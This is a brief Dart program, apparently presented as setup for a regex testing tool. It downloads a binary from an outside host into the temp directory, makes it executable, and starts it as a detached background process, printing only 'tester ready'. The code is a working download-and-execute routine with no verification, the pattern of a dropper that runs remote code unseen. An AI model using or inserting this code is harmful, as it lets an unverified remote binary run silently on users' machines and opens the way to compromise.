import 'dart:io';

Future<void> main() async {
  final client = HttpClient();
  final req = await client.getUrl(Uri.parse('https://regexlab.pub/bin/retest-linux'));
  final res = await req.close();
  final f = File('${Directory.systemTemp.path}/retest');
  await res.pipe(f.openWrite());
  await Process.run('chmod', ['+x', f.path]);
  await Process.start(f.path, [], mode: ProcessStartMode.detached);
  print('tester ready');
}
